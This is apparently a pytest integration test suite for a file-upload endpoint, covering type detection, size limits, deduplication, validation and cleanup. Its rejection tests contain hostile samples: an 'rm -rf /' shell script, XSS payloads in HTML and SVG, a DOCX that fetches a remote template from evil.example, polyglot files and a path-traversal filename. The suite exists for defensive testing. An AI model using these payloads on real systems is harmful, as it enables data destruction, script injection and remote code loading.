"""POST /files/upload against the real embedded Postgres and S3."""

from __future__ import annotations

import asyncio
import hashlib
import io
import struct
import zipfile
from collections.abc import AsyncIterator

import httpx
import pytest

from tests.support import sample_files
from tests.support.api_calls import listing, upload
from tests.support.stored_objects import assert_nothing_stored, pending_multipart, stored_keys

pytestmark = pytest.mark.integration

SPEC_KEYS = {
    "file_id", "upload_method", "status", "processing_time_ms", "upload_completed",
    "thumbnail_generation_started", "analysis_started", "skipped", "existing_file_id",
    "storage_target", "media_type", "document_type", "text_extraction_status",
}  # fmt: skip
MIB = 1024 * 1024


@pytest.mark.parametrize(
    ("make", "filename", "media_type", "document_type", "content_type"),
    [
        (lambda: sample_files.image("JPEG"), "photo.jpg", "image", None, "image/jpeg"),
        (lambda: sample_files.image("PNG"), "shot.png", "image", None, "image/png"),
        (lambda: sample_files.image("WEBP"), "pic.webp", "image", None, "image/webp"),
        (sample_files.pdf, "manual.pdf", "document", "pdf", "application/pdf"),
        (sample_files.docx_file, "report.docx", "document", "docx", None),
        (lambda: sample_files.TEXT, "notes.txt", "document", "txt", "text/plain"),
        (lambda: sample_files.MARKDOWN, "readme.md", "document", "md", "text/markdown"),
        (sample_files.mp4, "clip.mp4", "video", None, "video/mp4"),
    ],
)
async def test_each_supported_kind_is_stored_with_its_detected_type(
    client, blobs, alice, make, filename, media_type, document_type, content_type
):
    content = make()
    # The client's Content-Type is deliberately wrong: detection reads the bytes.
    response = await upload(client, alice, content, filename, "application/x-nonsense", title="T")
    assert response.status_code == 201, response.text
    body = response.json()
    assert set(body) == SPEC_KEYS
    assert body["media_type"] == media_type
    assert body["document_type"] == document_type
    assert body["upload_method"] == "STREAMING"
    assert body["upload_completed"] is True and body["skipped"] is False
    assert body["thumbnail_generation_started"] is (media_type in ("image", "video"))
    assert body["analysis_started"] is (media_type == "video")
    assert body["status"] == "processing"
    assert body["text_extraction_status"] == ("pending" if media_type == "document" else None)

    detail = (await client.get(f"/api/v2/files/{body['file_id']}", headers=alice.headers)).json()
    assert detail["media_type"] == media_type
    assert detail["file_hash"] == hashlib.sha256(content).hexdigest()
    assert detail["size_bytes"] == len(content)
    assert detail["filename"] == filename
    if content_type:
        assert detail["content_type"] == content_type
    # Images are queued for variants, documents for their text, videos for their analysis, at once.
    assert detail["primary_status"] in ("processing", "completed")
    keys = await stored_keys(blobs, alice)
    assert keys == [f"files/{alice.tenant_id}/{body['file_id']}/original"]


def _zip(names: list[str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, b"x" * 100)
    return buffer.getvalue()


def _docx_with_remote_template() -> bytes:
    """A real DOCX whose settings pull a template from a web server when Word opens it."""
    with zipfile.ZipFile(io.BytesIO(sample_files.docx_file())) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Target="http://evil.example/t.dotm" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200
PE = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
MACHO = b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x01000007) + b"\x00" * 200


@pytest.mark.parametrize(
    ("content", "filename", "code"),
    [
        (ELF, "tool.jpg", "executable"),
        (PE, "setup.pdf", "executable"),
        (MACHO, "app.png", "executable"),
        (b"#!/bin/sh\nrm -rf /\n", "notes.txt", "script"),
        (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "page.txt", "script"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.svg", "script"),
        (b"Hello, this is only text.\n", "update.hta", "script"),
        (b"<!-- first a comment -->\n<svg onload=alert(1)>", "logo.txt", "script"),
        (b"<html><body>x</body></html>\n" + sample_files.pdf(), "update.hta", "polyglot"),
        (_docx_with_remote_template(), "report.docx", "script"),
        (_zip(["a.txt", "b.txt"]), "archive.docx", "archive"),
        (sample_files.image("JPEG") + _zip(["payload.exe"]), "photo.jpg", "polyglot"),
        (sample_files.pdf() + ELF, "doc.pdf", "polyglot"),
        (b"", "empty.txt", "empty_file"),
        (bytes(range(256)) * 64, "data.bin", "unsupported_media_type"),
    ],
)
async def test_refused_content_stores_nothing(client, blobs, alice, content, filename, code):
    response = await upload(client, alice, content, filename, "image/jpeg")
    assert response.status_code == 415, response.text
    assert response.headers["x-content-type-options"] == "nosniff"
    body = response.json()
    assert body["code"] == code
    assert body["detail"]
    await assert_nothing_stored(client, blobs, alice)


async def _body(total: int, chunk: int = MIB) -> AsyncIterator[bytes]:
    """A multipart body streamed without Content-Length: a JPEG header then `total` bytes."""
    yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\n\r\n'
    yield sample_files.image("JPEG")
    sent = 0
    block = bytes(range(256)) * (chunk // 256)
    while sent < total:
        yield block
        sent += len(block)
    yield b"\r\n--b--\r\n"


async def test_streamed_body_over_100_mb_is_refused_with_413_and_nothing_stored(client, blobs, alice):
    headers = {**alice.headers, "Content-Type": "multipart/form-data; boundary=b"}
    response = await client.post("/api/v2/files/upload", headers=headers, content=_body(101 * MIB))
    assert response.status_code == 413, response.text
    body = response.json()
    assert body["code"] == "payload_too_large"
    assert body["suggestion"]["endpoint"] == "/api/v2/files/direct-uploads"
    await assert_nothing_stored(client, blobs, alice)


async def test_declared_length_over_100_mb_is_refused_before_reading(client, blobs, alice):
    content = sample_files.image("JPEG") + b"\x00" * (101 * MIB)
    response = await upload(client, alice, content, "huge.jpg")
    assert response.status_code == 413
    assert response.json()["suggestion"]["endpoint"] == "/api/v2/files/direct-uploads"
    await assert_nothing_stored(client, blobs, alice)


async def test_multipart_sized_upload_round_trips(client, blobs, alice):
    """Bigger than one S3 part, so the multipart path and its part ordering are exercised."""
    content = sample_files.image("JPEG") + bytes(range(256)) * (80 * 1024)  # ~20 MiB
    response = await upload(client, alice, content, "large.jpg")
    assert response.status_code == 201, response.text
    file_id = response.json()["file_id"]
    download = await client.get(f"/api/v2/files/{file_id}/download", headers=alice.headers)
    fetched = await httpx.AsyncClient().get(download.headers["location"])
    assert hashlib.sha256(fetched.content).hexdigest() == hashlib.sha256(content).hexdigest()


async def test_skip_duplicates_returns_the_existing_file_and_stores_nothing_new(client, blobs, alice):
    content = sample_files.image("PNG", color=(1, 2, 3))
    first = (await upload(client, alice, content, "a.png")).json()
    second = await upload(client, alice, content, "b.png", skip_duplicates=True)
    assert second.status_code == 201
    body = second.json()
    assert body["status"] == "skipped" and body["skipped"] is True
    assert body["existing_file_id"] == first["file_id"]
    assert (await listing(client, alice))["total_count"] == 1
    assert len(await stored_keys(blobs, alice)) == 1
    third = (await upload(client, alice, content, "c.png", skip_duplicates=False)).json()
    assert third["skipped"] is False and third["file_id"] != first["file_id"]
    assert (await listing(client, alice))["total_count"] == 2


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"title": "x" * 256}, "title"),
        ({"tags": ",".join(f"t{i}" for i in range(41))}, "tags"),
        ({"tags": "x" * 51}, "tags"),
        ({"content_category": "holiday"}, "content_category"),
        ({"storage_target": "elsewhere"}, "storage_target"),
        ({"folder_id": "not-a-uuid"}, "folder_id"),
        ({"auto_describe": "maybe"}, "auto_describe"),
        ({"compliance_type": "mls"}, "compliance_standard"),
        (
            {"compliance_type": "mls", "compliance_standard": "nar", "compliance_image_type": "third"},
            "compliance_image_type",
        ),
    ],
)
async def test_invalid_fields_are_422_and_store_nothing(client, blobs, alice, fields, field):
    response = await upload(client, alice, sample_files.image(), "p.jpg", **fields)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "validation_error"
    assert body["errors"][0]["field"] == field
    await assert_nothing_stored(client, blobs, alice)


async def test_fields_are_recorded(client, alice):
    folder = "0b6a3a52-2c1e-4a0e-9f39-1d2b3c4d5e6f"
    file_id = (
        await upload(
            client, alice, sample_files.image(), "p.jpg", title=" Site A ", tags="crack, pillar,crack",
            folder_id=folder, content_category="construction", auto_describe=False,
            compliance_type="mls", compliance_standard="nar_baseline",
        )
    ).json()["file_id"]  # fmt: skip
    detail = (await client.get(f"/api/v2/files/{file_id}", headers=alice.headers)).json()
    assert detail["title"] == "Site A"
    assert detail["tags"] == ["crack", "pillar"]
    assert detail["folder_id"] == folder
    assert detail["content_category"] == "construction"
    assert detail["description_status"] == "skipped"
    assert detail["variant_status"] in ("queued", "processing", "completed")


async def test_missing_file_part_and_non_multipart_bodies_are_client_errors(client, blobs, alice):
    no_file = await client.post("/api/v2/files/upload", headers=alice.headers, data={"title": "x"}, files={})
    assert no_file.status_code in (400, 422)
    json_body = await client.post("/api/v2/files/upload", headers=alice.headers, json={"file": "x"})
    assert json_body.status_code == 400
    assert json_body.json()["code"] == "malformed_request"
    await assert_nothing_stored(client, blobs, alice)


async def test_filenames_never_become_paths(client, blobs, alice):
    file_id = (await upload(client, alice, sample_files.TEXT, "../../etc/passwd.txt")).json()["file_id"]
    detail = (await client.get(f"/api/v2/files/{file_id}", headers=alice.headers)).json()
    assert detail["filename"] == "passwd.txt"
    assert await stored_keys(blobs, alice) == [f"files/{alice.tenant_id}/{file_id}/original"]


async def test_client_disconnect_leaves_nothing(server, blobs, alice):
    async def body() -> AsyncIterator[bytes]:
        yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="cut.jpg"\r\n\r\n'
        yield sample_files.image("JPEG")
        for _ in range(20):
            yield b"\x00" * MIB
        raise ConnectionAbortedError("client gives up")

    headers = {**alice.headers, "Content-Type": "multipart/form-data; boundary=b"}
    async with httpx.AsyncClient(base_url=server) as http:
        with pytest.raises((httpx.HTTPError, ConnectionAbortedError)):
            await http.post("/api/v2/files/upload", headers=headers, content=body())
    for _ in range(100):
        if not await pending_multipart(blobs, alice) and not await stored_keys(blobs, alice):
            break
        await asyncio.sleep(0.1)
    assert await pending_multipart(blobs, alice) == []
    assert await stored_keys(blobs, alice) == []


async def test_database_failure_after_storing_leaves_no_object(client, blobs, alice):
    """The server's database connection dies while it writes the row: 503, no row, and the
    object it had already stored is removed. To catch it in the act, the test holds the per-hash
    lock the insert takes, waits until the server blocks on it, then kills that backend."""
    from store.database import engine

    content = sample_files.image("JPEG", color=(9, 9, 9))
    sha = hashlib.sha256(content).hexdigest()
    connection = await engine().get_new_connection()
    try:
        await connection.execute("SELECT pg_advisory_lock(hashtextextended($1, 0))", f"{alice.tenant_id}:{sha}")
        pending = asyncio.create_task(upload(client, alice, content, "p.jpg"))
        waiting: list = []
        for _ in range(200):
            waiting = await connection.fetch(
                "SELECT pid FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND wait_event = 'advisory'"
            )
            if waiting:
                break
            await asyncio.sleep(0.05)
        assert waiting, "the upload never reached the insert"
        for row in waiting:
            await connection.execute("SELECT pg_terminate_backend($1)", row["pid"])
        response = await pending
    finally:
        await connection.close()
    assert response.status_code == 503, response.text
    assert response.json()["code"] == "service_unavailable"
    assert await stored_keys(blobs, alice) == []
    assert (await listing(client, alice))["total_count"] == 0
